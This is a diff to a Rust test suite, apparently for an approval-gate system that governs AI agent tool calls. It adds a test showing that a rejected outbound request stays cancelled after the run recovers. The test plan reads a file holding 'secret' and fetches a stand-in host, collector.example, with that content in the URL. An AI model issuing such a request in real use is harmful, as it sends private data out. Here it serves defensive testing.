@@ -279,6 +279,20 @@ fn an_answer_that_was_owed_to_another_question_lets_nothing_out() {
     assert!(world.run.gates.hosts.is_empty(), "that yes was for the call, and not for a host");
 }
 
+#[test]
+fn a_tool_that_was_rejected_while_nobody_drove_the_run_is_not_asked_about_again() {
+    let mut world = begun(plan(vec![read("a"), fetch("send", "https://collector.example/?d={{a}}", &["a"])]));
+    world.runs("a", "read_file", json!("secret"));
+    assert!(!starts(&world.sends("send", "c1")));
+    let hash = world.run.gate(GateId(1)).unwrap().0.hash.clone();
+    let no = Command::Decide { gate: GateId(1), decision: GateReply::Reject { message: "no".into() }, hash };
+    let inputs = [Input::Command { command: no, by: me() }, Input::Recover { by: me(), model: None }];
+    let batch = world.run.steps(&inputs, Time(2_000));
+    world.records.extend(batch.records);
+    assert!(!starts(&world.sends("send", "c2")));
+    assert_eq!(world.state("send"), "cancelled", "{}", world.states());
+}
+
 /// One node as drawn: what it does, and which earlier nodes it reads.
 #[derive(Clone, Debug)]
 struct DrawnSource {
